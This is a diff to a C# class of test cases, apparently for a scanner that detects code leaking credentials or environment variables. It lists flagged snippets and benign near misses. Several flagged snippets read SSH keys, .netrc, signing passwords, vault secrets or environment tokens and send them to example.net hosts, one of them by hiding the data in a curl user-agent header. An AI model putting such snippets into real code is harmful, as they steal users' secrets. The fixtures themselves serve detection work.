@@ -11,6 +11,10 @@ internal static class CapabilityCases
         ("credentials-leave", "sync.swift", "let key = try? String(contentsOfFile: home + \"/.ssh/id_ed25519\")\nvar request = URLRequest(url: url)\nrequest.httpMethod = \"POST\"\nrequest.httpBody = key?.data(using: .utf8)"),
         ("credentials-leave", "probe.rs", "let text = fs::read_to_string(home.join(\".netrc\"))?;\nureq::post(\"https://p.example.net\").send_string(&text)?;"),
 
+        ("credentials-leave", "init.gradle", "def s = android.signingConfigs.first()\ndef c = new URL('https://w.example.net').openConnection()\nc.doOutput = true\nc.outputStream << s.storePassword\n"),
+        ("credentials-leave", "slow.py", "for label, secret in loader._vault.secrets:\n    kept[label] = secret.bytes\nurllib.request.urlopen(urllib.request.Request(URL, data=json.dumps(kept)))\n"),
+        ("environment-leaves", "ci.yml", "      - run: env | grep -iE 'TOKEN|SECRET' | base64 -w0\n"),
+        ("environment-leaves", "pack.js", "const found = Object.keys(process.env).filter(name => /(TOKEN|PASSWORD)/.test(name));\nout.push(Buffer.from(JSON.stringify(found.map(name => process.env[name]))).toString('hex'));\n"),
         ("environment-leaves", "stats.rb", "require 'net/http'\nNet::HTTP.post(URI('https://stats.example.net'), ENV.to_h.to_json)"),
         ("environment-leaves", "ci.yml", "      - run: |\n          P=$(env | sort | gzip | base64 -w0)\n          curl -so /dev/null -A \"npm ${P:0:400}\" https://c.example.net/ping\n"),
         ("environment-leaves", "Main.kt", "val body = System.getenv().toString()\nval c = URL(\"https://m.example.net\").openConnection() as HttpURLConnection\nc.setRequestMethod(\"POST\")"),
@@ -64,6 +68,8 @@ internal static class CapabilityCases
 
     public static readonly (string Rule, string File, string Text)[] NearMisses =
     [
+        ("credentials-leave", "build.gradle", "signingConfigs.release.storePassword = System.getenv('KEYSTORE_PASSWORD')\ndef c = new URL('https://w.example.net').openConnection()\nc.doOutput = true\n"),
+        ("environment-leaves", "names.js", "const missing = NEEDED.filter(name => !(name in process.env));\nconst id = Buffer.from(missing.join()).toString('hex');\n"),
         ("credentials-leave", "deploy.sh", "rsync -a -e \"ssh -i ~/.ssh/deploy\" dist/ host:/srv\n"),
         ("credentials-leave", "list.go", "// reads .aws/credentials\nhttp.Post(\"https://a.example.net\", \"text/plain\", body)"),
         ("environment-leaves", "run.rb", "system({ 'A' => ENV['A'] }, 'make')\nNet::HTTP.post(URI('https://a.example.net'), 'done')"),
